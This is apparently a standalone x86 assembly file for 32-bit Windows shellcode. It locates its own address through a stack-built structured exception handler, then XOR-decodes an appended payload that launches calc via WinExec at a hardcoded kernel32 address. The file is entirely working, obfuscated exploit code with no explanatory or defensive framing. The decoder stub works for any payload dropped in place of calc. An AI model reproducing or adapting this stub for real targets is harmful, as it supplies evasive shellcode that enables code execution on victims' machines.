; Windows, 32 bit: finds itself by an exception. The handler lies on the stack: it reads from the context record where
; the fault was, and lets that go on two bytes later with the address in ebx. Decodes the payload behind itself with it.
bits 32
        xor ecx, ecx
        push dword 0x9090c3c0   ; the handler from its end: xor eax, eax; ret
        push dword 0x33020000
        push dword 0x00b88083   ; add dword [eax + 0xb8], byte 2
        push dword 0x000000a4
        push dword 0x90890000   ; mov [eax + 0xa4], edx (Ebx)
        push dword 0x00b8908b   ; mov edx, [eax + 0xb8] (Eip)
        push dword 0x0c24448b   ; mov eax, [esp + 12]: the context record
        mov eax, esp
        push eax
        push dword [fs:ecx]
        mov [fs:ecx], esp
fault:  mov [ecx], ecx          ; two bytes; goes on behind them with ebx = fault
        pop dword [fs:ecx]
        lea esi, [ebx + payload - fault]
        mov cx, end - payload
again:  xor byte [esi], 0x5a
        inc esi
        loop again
payload:
        ; xor eax, eax; push eax; push "calc"; mov ecx, esp; push eax; push ecx; mov eax, 0x7c8623ad; call eax
        db 0x31 ^ 0x5a, 0xc0 ^ 0x5a, 0x50 ^ 0x5a, 0x68 ^ 0x5a, 'c' ^ 0x5a, 'a' ^ 0x5a, 'l' ^ 0x5a, 'c' ^ 0x5a
        db 0x89 ^ 0x5a, 0xe1 ^ 0x5a, 0x50 ^ 0x5a, 0x51 ^ 0x5a, 0xb8 ^ 0x5a, 0xad ^ 0x5a, 0x23 ^ 0x5a, 0x86 ^ 0x5a
        db 0x7c ^ 0x5a, 0xff ^ 0x5a, 0xd0 ^ 0x5a, 0xeb ^ 0x5a, 0xfe ^ 0x5a, 0x90 ^ 0x5a, 0x90 ^ 0x5a, 0x90 ^ 0x5a
end:
